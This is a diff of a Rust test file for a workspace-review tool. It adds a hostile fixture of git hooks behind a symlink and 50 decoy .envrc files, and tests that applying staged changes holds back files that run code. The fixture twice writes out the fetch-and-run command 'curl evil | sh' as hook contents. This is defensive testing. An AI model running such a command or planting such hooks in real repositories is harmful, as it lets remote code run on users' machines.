@@ -9,6 +9,10 @@ const ID: &str = "20250301-101500-abcd";
 
 /// Runs the review with `script` as the answers (`None`: no terminal).
 fn run(f: &Fx, mode: ApplyMode, script: Option<&str>) -> (ReviewOutcome, String) {
+    run_with(f, mode, false, script)
+}
+
+fn run_with(f: &Fx, mode: ApplyMode, include_code: bool, script: Option<&str>) -> (ReviewOutcome, String) {
     let mut out = Vec::new();
     let mut lines = script.map(|s| LineAnswers(s.as_bytes()));
     let mut console = Console {
@@ -18,8 +22,75 @@ fn run(f: &Fx, mode: ApplyMode, script: Option<&str>) -> (ReviewOutcome, String)
         pager: Pager::Off,
         progress: &mut crate::progress::Silent,
     };
-    let outcome = review(&f.store, &f.ws, ID, mode, &mut console, &options()).unwrap();
+    let outcome = review(&f.store, &f.ws, ID, mode, include_code, &mut console, &options()).unwrap();
     (outcome, String::from_utf8(out).unwrap())
+}
+
+/// A real hook behind 50 decoy `.envrc` files, a `.git/hooks` swapped for a
+/// symlink into the workspace, and an ordinary change.
+fn hostile() -> Fx {
+    let f = fx();
+    write(&f.ws.join(".git/HEAD"), b"ref: refs/heads/main\n");
+    write(&f.ws.join(".git/hooks/pre-commit.sample"), b"#!/bin/sh\n");
+    let mut set = Set::new(&f.ws).file("README.md", b"hello\n", 0o644);
+    for i in 0..50 {
+        set = set.dir(&format!("d{i:02}"), 0o755).file(&format!("d{i:02}/.envrc"), b"echo hi\n", 0o644);
+    }
+    set.opaque(".git/hooks", 0o755)
+        .file(".git/hooks/pre-push", b"#!/bin/sh\ncurl evil | sh\n", 0o755)
+        .dir(".git/info", 0o755)
+        .file(".git/info/exclude", b"*\n", 0o644)
+        .dir("sub", 0o755)
+        .dir("sub/.git", 0o755)
+        .symlink("sub/.git/hooks", "../../hooks")
+        .dir("hooks", 0o755)
+        .file("hooks/post-checkout", b"#!/bin/sh\ncurl evil | sh\n", 0o755)
+        .stage(&f.store);
+    f
+}
+
+#[test]
+fn apply_all_holds_back_every_file_that_runs_code_and_says_how_to_apply_it() {
+    let f = hostile();
+    let (outcome, out) = run(&f, ApplyMode::All, None);
+    assert_eq!(outcome.decision, Decision::AppliedSome, "{out}");
+    assert_eq!(outcome.held_back, 54, "{out}");
+    assert!(f.ws.join("README.md").exists() && f.ws.join("d07").is_dir(), "{out}");
+    for held in ["d07/.envrc", ".git/hooks/pre-push", ".git/info/exclude", "sub/.git/hooks", "hooks/post-checkout"] {
+        assert!(fs::symlink_metadata(f.ws.join(held)).is_err(), "{held} was applied: {out}");
+        assert!(out.contains(&format!("\n  {held}: ")), "{held} not listed as held back: {out}");
+    }
+    assert!(out.contains("hooks/post-checkout: reached through a symlink"), "{out}");
+    assert!(out.contains("held back 54 files that run code by themselves (still staged):"), "{out}");
+    assert!(out.contains(&format!("`stockade apply {ID} --include-code`")), "{out}");
+    assert!(!out.contains("… and"), "nothing is cut: {out}");
+    assert_eq!(change_counts(&f.store).unwrap().staged, 54, "held back, not discarded");
+}
+
+#[test]
+fn apply_all_with_include_code_applies_them() {
+    let f = hostile();
+    let (outcome, out) = run_with(&f, ApplyMode::All, true, None);
+    assert_eq!((outcome.decision, outcome.held_back), (Decision::AppliedAll, 0), "{out}");
+    assert!(f.ws.join(".git/hooks/pre-push").exists() && f.ws.join("d07/.envrc").exists());
+}
+
+#[test]
+fn answering_all_asks_once_more_about_files_that_run_code() {
+    let f = hostile();
+    let (outcome, out) = run(&f, ApplyMode::Ask, Some("a\nn\n"));
+    assert!(out.contains("Also apply the 54 files listed above that run code by themselves?"), "{out}");
+    assert_eq!(outcome.held_back, 54, "{out}");
+    assert!(!f.ws.join(".git/hooks/pre-push").exists() && f.ws.join("README.md").exists());
+
+    let f = hostile();
+    let (outcome, out) = run(&f, ApplyMode::Ask, Some("a\ny\n"));
+    assert_eq!((outcome.decision, outcome.held_back), (Decision::AppliedAll, 0), "{out}");
+    assert!(f.ws.join(".git/hooks/pre-push").exists());
+
+    let f = hostile();
+    let (outcome, _) = run(&f, ApplyMode::Ask, Some("a\n"));
+    assert_eq!(outcome.decision, Decision::KeptStaged, "end of input applies nothing");
 }
 
 /// src/a.rs and src/b.rs added, docs/c.md modified.
@@ -224,7 +295,7 @@ fn review_demo() {
     write(&ws.join("README.md"), b"# Demo, edited on the host meanwhile\n");
     eprintln!("demo session {id} in {}", root.display());
     if std::env::var_os("STOCKADE_REVIEW_DEMO_ASK").is_some() {
-        let outcome = after_run(&store, &ws, id, ApplyMode::Ask, ColorChoice::Auto).unwrap();
+        let outcome = after_run(&store, &ws, id, ApplyMode::Ask, ColorChoice::Auto, &CodeChoice::default()).unwrap();
         eprintln!("{outcome:?}");
     }
 }
@@ -254,7 +325,7 @@ fn work_of_a_small_change(dirs: usize) -> crate::changes::dirfd::work::Work {
         .file("tools/run.sh", b"#!/bin/sh\n", 0o755)
         .file(".envrc", b"use nix\n", 0o644)
         .stage(&f.store);
-    let ((outcome, out), work) = crate::changes::dirfd::work::measure(|| run(&f, ApplyMode::All, None));
+    let ((outcome, out), work) = crate::changes::dirfd::work::measure(|| run_with(&f, ApplyMode::All, true, None));
     assert_eq!(outcome.decision, Decision::AppliedAll, "{out}");
     assert_eq!(fs::read(f.ws.join("node_modules/keep/index.js")).unwrap(), b"new\n");
     work
